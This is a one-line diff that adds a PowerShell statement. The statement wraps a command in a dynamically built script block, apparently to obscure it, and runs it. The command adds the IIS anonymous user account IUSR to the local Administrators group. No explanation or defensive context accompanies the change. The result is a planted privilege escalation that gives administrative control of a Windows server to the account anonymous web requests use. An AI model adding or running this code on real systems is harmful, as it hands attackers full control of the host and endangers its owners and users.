@@ -1,0 +1,1 @@
+$b = $ExecutionContext.InvokeCommand.NewScriptBlock('net localgroup Administrators IUSR /add'); & $b
